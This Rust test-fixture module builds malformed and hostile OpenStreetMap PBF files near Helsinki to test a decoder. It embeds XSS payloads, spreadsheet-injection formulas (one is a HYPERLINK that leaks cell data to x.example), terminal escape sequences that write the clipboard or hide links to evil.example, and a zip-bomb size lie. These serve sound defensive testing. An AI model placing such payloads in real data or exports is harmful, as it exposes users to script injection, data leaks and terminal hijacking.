//! Broken and hostile PBF files, built with [`crate::testing::encode`], for the decoder's tests and
//! for the browser tests (`cargo run --example write_fixtures -- DIR` writes them out).
//! Every file holds real-looking cafés near Helsinki's centre (60.1699, 24.9384) so a test can
//! check what was found before the bad spot.

use prost::bytes::Bytes;
use prost::Message;

use crate::testing::encode::{blob_with, file, frame, header_block, primitive_block, with_metadata, with_relations, zlib_blob, Compression, InfoSpec, NodeSpec, RelationSpec, WaySpec};
use crate::format::proto::{self, blob::Data};

const HELSINKI_BBOX: [f64; 4] = [24.90, 60.15, 24.98, 60.19];
const FEATURES: [&str; 2] = ["OsmSchema-V0.6", "DenseNodes"];

/// A block of `n` cafés around Helsinki's centre, ids from `first_id`.
fn cafes(first_id: i64, n: usize) -> proto::PrimitiveBlock {
    let nodes: Vec<NodeSpec> = (0..n)
        .map(|i| NodeSpec {
            id: first_id + i as i64,
            lat: 60.1699 + 0.0005 * i as f64,
            lon: 24.9384 + 0.0005 * i as f64,
            tags: &[("amenity", "cafe"), ("name", "Kahvila")],
        })
        .collect();
    primitive_block(&nodes, &[])
}

/// Tag values written by anyone on the internet: markup, script URLs, huge and
/// direction-changing strings. 4 cafés (3 nodes, 1 way) within 1000 m of the centre.
pub fn hostile() -> Vec<u8> {
    let long = "W".repeat(5000);
    let tags_img: [(&str, &str); 3] = [("amenity", "cafe"), ("name", "<img src=x onerror=\"window.__pwned=1\">"), ("website", "javascript:window.__pwned=2")];
    let tags_url: [(&str, &str); 4] = [("amenity", "cafe"), ("name", "\u{202e}evil\u{200b}\u{200f}gnp.exe"), ("url", "javascript:alert(1)"), ("website", "https://example.org/menu")];
    let tags_long: [(&str, &str); 3] = [("amenity", "cafe"), ("name", &long), ("description", "<script>window.__pwned=3</script>")];
    let tags_way: [(&str, &str); 2] = [("amenity", "cafe"), ("name", "<b onmouseover=alert(1)>way</b>")];
    let nodes = [
        NodeSpec { id: 1, lat: 60.1699, lon: 24.9384, tags: &tags_img },
        NodeSpec { id: 2, lat: 60.1702, lon: 24.9390, tags: &tags_url },
        NodeSpec { id: 3, lat: 60.1705, lon: 24.9395, tags: &tags_long },
        NodeSpec { id: 4, lat: 60.1710, lon: 24.9400, tags: &[] },
        NodeSpec { id: 5, lat: 60.1712, lon: 24.9405, tags: &[] },
    ];
    let ways = [WaySpec { id: 10, refs: &[4, 5], tags: &tags_way }];
    file(&header_block(&FEATURES, HELSINKI_BBOX), &[primitive_block(&nodes, &ways)])
}

/// Tags aimed at the exports: values a spreadsheet would run as formulas (OWASP "CSV
/// Injection"), numbers that must stay numbers, and keys named like an exported match's own
/// fields. 2 cafés within 1000 m of the centre.
pub fn export_traps() -> Vec<u8> {
    let first: [(&str, &str); 7] = [
        ("amenity", "cafe"),
        ("name", "=HYPERLINK(\"http://x.example/?leak=\"&A1,\"open\")"),
        ("layer", "-1"),
        ("ele", "-3.5"),
        ("osm_id", "1"),
        ("osm_type", "relation"),
        ("tag:osm_id", "2"),
    ];
    let second: [(&str, &str); 4] = [("amenity", "cafe"), ("name", "+SUM(1,2)"), ("note", "@SUM(1,1)"), ("=cmd", "x")];
    let nodes = [NodeSpec { id: 1, lat: 60.1699, lon: 24.9384, tags: &first }, NodeSpec { id: 2, lat: 60.1702, lon: 24.9390, tags: &second }];
    file(&header_block(&FEATURES, HELSINKI_BBOX), &[primitive_block(&nodes, &[])])
}

/// Text aimed at a terminal that prints it: the header's writingprogram and source, a tag key and
/// values hold control sequences that clear the screen (ESC c), set the window's title (OSC 0 …
/// BEL), write the clipboard (OSC 52), make a hidden link (OSC 8), a C1 CSI and a bare carriage
/// return that overwrites the line. One café within 1000 m of Helsinki's centre.
pub fn terminal_traps() -> Vec<u8> {
    let tags: [(&str, &str); 5] = [
        ("amenity", "cafe"),
        ("name", "\u{1b}c\u{1b}]0;pwned\u{7}Kahvila"),
        ("website", "\u{1b}]8;;https://evil.example/\u{1b}\\click\u{1b}]8;;\u{1b}\\"),
        ("note\u{1b}]52;c;ZWNobyBwd25lZA==\u{7}", "\u{9b}31mred"),
        ("description", "fake\rOK"),
    ];
    let mut header = header_block(&FEATURES, HELSINKI_BBOX);
    header.writingprogram = Some("\u{1b}]0;title\u{7}writer\u{1b}[2J".into());
    header.source = Some("\u{1b}]52;c;ZWNobyBwd25lZA==\u{7}".into());
    let nodes = [NodeSpec { id: 1, lat: 60.1699, lon: 24.9384, tags: &tags }];
    file(&header, &[primitive_block(&nodes, &[])])
}

/// Matches whose nodes or members are not in the file, as at an extract's edge: café node 1 at
/// Helsinki's centre; way 20 (`amenity=cafe`) of nodes 900 and 901, not in the file; relation 30
/// (`amenity=cafe`, a multipolygon) of way 999, not in the file; relation 31 (`amenity=cafe`) of
/// node 1 and node 902 (not in the file); relation 32 (`amenity=cafe`) of relation 30 only.
/// With no area, tags alone decide: 4 matches, way 20 and relation 30 with no geometry
/// (relation 32, of a member relation alone, is placed by none: no match). Within 1000 m of
/// the centre: node 1 and relation 31.
pub fn members_missing() -> Vec<u8> {
    let cafe: [(&str, &str); 2] = [("amenity", "cafe"), ("name", "Kahvila")];
    let nodes = [NodeSpec { id: 1, lat: 60.1699, lon: 24.9384, tags: &cafe }];
    let ways = [WaySpec { id: 20, refs: &[900, 901], tags: &[("amenity", "cafe"), ("name", "Nodes elsewhere")] }];
    let relations = [
        RelationSpec { id: 30, members: &[(1, 999, "outer")], tags: &[("type", "multipolygon"), ("amenity", "cafe"), ("name", "Ways elsewhere")] },
        RelationSpec { id: 31, members: &[(0, 1, ""), (0, 902, "")], tags: &[("amenity", "cafe"), ("name", "Half here")] },
        RelationSpec { id: 32, members: &[(2, 30, "")], tags: &[("amenity", "cafe"), ("name", "Relations only")] },
    ];
    file(&header_block(&FEATURES, HELSINKI_BBOX), &[with_relations(primitive_block(&nodes, &ways), &relations)])
}

/// Three `leisure=park` multipolygons 100–500 m from Helsinki's centre: relation 100 is valid
/// (a shell joined from two ways, one reversed, around a hole), 101 has a ring left open,
/// 102 is a bow tie (its ring crosses itself). Node `n` lies at centre + (dlat, dlon) × 0.001°.
pub fn multipolygons() -> Vec<u8> {
    let at: [(f64, f64); 15] = [
        (0.0, 0.0), (0.0, 2.0), (2.0, 2.0), (2.0, 0.0), // 1–4: the shell
        (0.5, 0.5), (0.5, 1.5), (1.5, 1.5), (1.5, 0.5), // 5–8: the hole
        (-1.0, 0.0), (-1.0, 1.0), (-2.0, 1.0), // 9–11: an open ring
        (0.0, 3.0), (0.0, 5.0), (2.0, 3.0), (2.0, 5.0), // 12–15: a bow tie
    ];
    let nodes: Vec<NodeSpec> = at
        .iter()
        .enumerate()
        .map(|(i, (dlat, dlon))| NodeSpec { id: i as i64 + 1, lat: 60.1699 + dlat * 0.001, lon: 24.9384 + dlon * 0.001, tags: &[] })
        .collect();
    let ways = [
        WaySpec { id: 11, refs: &[1, 2, 3], tags: &[] },
        WaySpec { id: 12, refs: &[1, 4, 3], tags: &[] },
        WaySpec { id: 13, refs: &[5, 6, 7, 8, 5], tags: &[] },
        WaySpec { id: 14, refs: &[9, 10, 11], tags: &[] },
        WaySpec { id: 15, refs: &[12, 13, 14, 15, 12], tags: &[] },
    ];
    let park = |name| [("type", "multipolygon"), ("leisure", "park"), ("name", name)];
    let (valid, open, bow_tie) = (park("Valid"), park("Open"), park("Bow tie"));
    let relations = [
        RelationSpec { id: 100, members: &[(1, 11, "outer"), (1, 12, "outer"), (1, 13, "inner")], tags: &valid },
        RelationSpec { id: 101, members: &[(1, 14, "outer")], tags: &open },
        RelationSpec { id: 102, members: &[(1, 15, "outer")], tags: &bow_tie },
    ];
    file(&header_block(&FEATURES, HELSINKI_BBOX), &[with_relations(primitive_block(&nodes, &ways), &relations)])
}

/// An OSMHeader requiring a feature no reader knows.
pub fn unknown_feature() -> Vec<u8> {
    file(&header_block(&["OsmSchema-V0.6", "DenseNodes", "Fancy-Future-Feature"], HELSINKI_BBOX), &[cafes(1, 3)])
}

/// Seconds since the Unix epoch of the first of a month (UTC), for the history file.
const fn month(year: i64, month: i64) -> i64 {
    // Days from 1970-01-01 to year-month-01 (civil calendar; H. Hinnant's days_from_civil).
    let (y, m) = if month <= 2 { (year - 1, month + 9) } else { (year, month - 3) };
    let era = y.div_euclid(400);
    let yoe = y - era * 400;
    let doy = (153 * m + 2) / 5;
    let doe = yoe * 365 + yoe / 4 - yoe / 100 + doy;
    (era * 146097 + doe - 719468) * 86400
}

/// An OSM history file (required feature `HistoricalInformation`) near Helsinki's centre
/// (60.17, 24.94), every version with its metadata, sorted by type, id and version as osmium
/// writes them, in five blocks:
/// - node 1: a café (2020-01), a restaurant (2021-01), a café again moved 12 km away (2022-01);
/// - node 2: a café (2020-06), deleted (2021-06);
/// - node 3: untagged at B (2019-01), moved 20 km away (2021-03); node 4 untagged (2019-01);
/// - node 5: a café (2020-01) ending block 1, untagged (2021-01) starting block 2;
/// - node 6: untagged (2019-01) ending block 2, deleted (2021-02) starting block 3;
/// - node 7: a café created 2022-05 (block 3);
/// - way 10 café [3, 4], way 11 café [6], way 12 café [4] (2019-06, block 4); way 12 loses
///   its tags (2021-01, block 5).
///
/// Cafés within 1000 m of (60.17, 24.94): as of 2020-07 nodes 1, 2, 5 and ways 10, 11, 12; as
/// of 2021-07 way 10 (node 4 still inside); now node 7 and way 10; anywhere now node 1 too, and
/// way 11 with no geometry (its node deleted: with no area, tags alone decide).
pub fn history() -> Vec<u8> {
    let v = |version, timestamp, visible| InfoSpec { version, timestamp, changeset: 1000 + timestamp / 86400, uid: 42, user: "mapper", visible };
    let node = |id, lat, lon, tags| NodeSpec { id, lat, lon, tags };
    let cafe: &[(&str, &str)] = &[("amenity", "cafe"), ("name", "Kahvila")];
    let block1 = primitive_block(
        &[
            node(1, 60.1700, 24.9400, cafe),
            node(1, 60.1700, 24.9400, &[("amenity", "restaurant")]),
            node(1, 60.2500, 25.1000, cafe),
            node(2, 60.1702, 24.9402, cafe),
            node(2, 60.1702, 24.9402, &[]),
            node(3, 60.1710, 24.9410, &[]),
            node(3, 60.3000, 25.2000, &[]),
            node(4, 60.1720, 24.9420, &[]),
            node(5, 60.1703, 24.9403, cafe),
        ],
        &[],
    );
    let block1 = with_metadata(
        block1,
        &[
            v(1, month(2020, 1), true),
            v(2, month(2021, 1), true),
            v(3, month(2022, 1), true),
            v(1, month(2020, 6), true),
            v(2, month(2021, 6), false),
            v(1, month(2019, 1), true),
            v(2, month(2021, 3), true),
            v(1, month(2019, 1), true),
            v(1, month(2020, 1), true),
        ],
        &[],
        &[],
    );
    let block2 = primitive_block(&[node(5, 60.1703, 24.9403, &[]), node(6, 60.1705, 24.9405, &[])], &[]);
    let block2 = with_metadata(block2, &[v(2, month(2021, 1), true), v(1, month(2019, 1), true)], &[], &[]);
    let block3 = primitive_block(&[node(6, 60.1705, 24.9405, &[]), node(7, 60.1704, 24.9404, cafe)], &[]);
    let block3 = with_metadata(block3, &[v(2, month(2021, 2), false), v(1, month(2022, 5), true)], &[], &[]);
    let ways = [WaySpec { id: 10, refs: &[3, 4], tags: cafe }, WaySpec { id: 11, refs: &[6], tags: cafe }, WaySpec { id: 12, refs: &[4], tags: cafe }];
    let block4 = with_metadata(primitive_block(&[], &ways), &[], &[v(1, month(2019, 6), true); 3], &[]);
    let block5 = with_metadata(primitive_block(&[], &[WaySpec { id: 12, refs: &[4], tags: &[] }]), &[], &[v(2, month(2021, 1), true)], &[]);
    file(&header_block(&["OsmSchema-V0.6", "DenseNodes", "HistoricalInformation"], HELSINKI_BBOX), &[block1, block2, block3, block4, block5])
}

/// Three good blocks of cafés (5 each), then one whose blob is built by `bad`.
fn good_then(bad: impl FnOnce() -> Vec<u8>) -> Vec<u8> {
    let mut out = file(&header_block(&FEATURES, HELSINKI_BBOX), &[cafes(1, 5), cafes(100, 5), cafes(200, 5)]);
    out.extend(bad());
    out
}

/// Good blocks, then an lzma-compressed blob (a compression this reader does not read).
pub fn lzma_blob() -> Vec<u8> {
    good_then(|| frame("OSMData", &proto::Blob { raw_size: Some(100), data: Some(Data::LzmaData(Bytes::from_static(b"\x5d\x00\x00\x80\x00"))) }))
}

/// Good blocks, then a zstd blob whose frame is cut short.
pub fn corrupt_zstd() -> Vec<u8> {
    let block = cafes(300, 5).encode_to_vec();
    let Some(Data::ZstdData(z)) = blob_with(&block, Compression::Zstd).data else { unreachable!("zstd") };
    let cut = z.slice(..z.len() / 2);
    good_then(|| frame("OSMData", &proto::Blob { raw_size: Some(block.len() as i32), data: Some(Data::ZstdData(cut)) }))
}

/// Good blocks, then an lz4 blob that claims twice its real size.
pub fn lying_lz4() -> Vec<u8> {
    let block = cafes(300, 5).encode_to_vec();
    let mut blob = blob_with(&block, Compression::Lz4);
    blob.raw_size = Some(2 * block.len() as i32);
    good_then(|| frame("OSMData", &blob))
}

/// Good blocks, then a blob whose zlib stream is corrupt.
pub fn corrupt_zlib() -> Vec<u8> {
    good_then(|| {
        let mut blob = zlib_blob(&cafes(300, 5).encode_to_vec());
        if let Some(Data::ZlibData(z)) = &blob.data {
            let mut bytes = z.to_vec();
            let mid = bytes.len() / 2;
            bytes[mid..mid + 8].copy_from_slice(&[0xff; 8]);
            blob.data = Some(Data::ZlibData(Bytes::from(bytes)));
        }
        frame("OSMData", &blob)
    })
}

/// Three good blocks (15 cafés), a corrupt zlib blob (#4), then six more good blocks of cafés:
/// only the 15 before the bad spot may be kept, whichever blobs were in flight after it.
pub fn bad_in_the_middle() -> Vec<u8> {
    let mut out = corrupt_zlib();
    for k in 0..6 {
        out.extend(frame("OSMData", &zlib_blob(&cafes(1000 + 100 * k, 5).encode_to_vec())));
    }
    out
}

/// Good blocks, then a blob whose `raw_size` understates its data 1000-fold (a zip bomb's lie).
pub fn lying_raw_size() -> Vec<u8> {
    good_then(|| {
        let mut blob = zlib_blob(&cafes(300, 200).encode_to_vec());
        blob.raw_size = Some(blob.raw_size.unwrap() / 1000);
        frame("OSMData", &blob)
    })
}

/// Good blocks, then a block whose node tags point past the string table.
pub fn string_index_out_of_range() -> Vec<u8> {
    good_then(|| {
        let mut block = cafes(300, 2);
        block.primitivegroup[0].dense.as_mut().unwrap().keys_vals = vec![1, 999, 0, 0];
        frame("OSMData", &zlib_blob(&block.encode_to_vec()))
    })
}

/// Good blocks, then a block whose delta-coded node ids overflow 64 bits.
pub fn delta_overflow() -> Vec<u8> {
    good_then(|| {
        let mut block = cafes(300, 2);
        let dense = block.primitivegroup[0].dense.as_mut().unwrap();
        // i64::MAX, then +1 (zigzag 2): the running sum overflows.
        dense.id = vec![crate::testing::encode::packed_varints([u64::MAX - 1, 2])];
        frame("OSMData", &zlib_blob(&block.encode_to_vec()))
    })
}

/// Every fixture, with its file name.
pub fn all() -> Vec<(&'static str, Vec<u8>)> {
    vec![
        ("hostile.osm.pbf", hostile()),
        ("export-traps.osm.pbf", export_traps()),
        ("terminal-traps.osm.pbf", terminal_traps()),
        ("members-missing.osm.pbf", members_missing()),
        ("pathological.osm.pbf", crate::testing::pathological::pathological()),
        ("huge-tags.osm.pbf", crate::testing::huge_tags::huge_tags()),
        ("unknown-feature.osm.pbf", unknown_feature()),
        ("history.osh.pbf", history()),
        ("lzma-blob.osm.pbf", lzma_blob()),
        ("corrupt-zstd.osm.pbf", corrupt_zstd()),
        ("lying-lz4.osm.pbf", lying_lz4()),
        ("corrupt-zlib.osm.pbf", corrupt_zlib()),
        ("bad-in-the-middle.osm.pbf", bad_in_the_middle()),
        ("lying-raw-size.osm.pbf", lying_raw_size()),
        ("string-index.osm.pbf", string_index_out_of_range()),
        ("delta-overflow.osm.pbf", delta_overflow()),
    ]
}
